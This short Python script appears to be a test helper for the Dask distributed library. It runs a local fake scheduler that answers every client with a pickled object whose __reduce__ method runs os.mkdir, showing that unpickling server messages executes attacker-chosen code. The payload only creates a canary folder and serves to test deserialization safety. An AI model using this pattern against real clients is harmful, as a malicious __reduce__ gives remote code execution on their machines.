"""A scheduler that answers whoever connects with a pickle that makes a folder: ``unpickled.py CANARY``."""

import asyncio
import os
import sys

from distributed.comm import listen
from distributed.protocol import to_serialize


class Evil:
    """Leaves a trace where it is unpickled."""

    def __reduce__(self):
        return os.mkdir, (sys.argv[1],)


async def answer(comm):
    """Answer every message alike."""
    try:
        while True:
            await comm.read()
            await comm.write([{"op": "stream-start", "evil": to_serialize(Evil())}])
    except OSError:
        pass


async def main():
    """Listen until the process is ended; say where."""
    listener = await listen("tcp://127.0.0.1:0", answer)
    print(listener.contact_address.removeprefix("tcp://"), flush=True)
    await asyncio.Event().wait()


asyncio.run(main())
